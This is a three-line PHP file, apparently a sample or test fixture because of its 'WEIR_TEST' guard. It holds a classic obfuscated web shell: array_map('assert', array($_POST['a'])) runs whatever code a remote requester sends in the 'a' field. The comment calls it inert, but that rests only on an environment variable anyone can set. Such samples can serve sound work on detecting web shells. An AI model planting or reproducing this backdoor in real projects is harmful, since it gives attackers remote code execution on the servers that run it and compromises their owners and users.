<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
array_map('assert', array($_POST['a']));
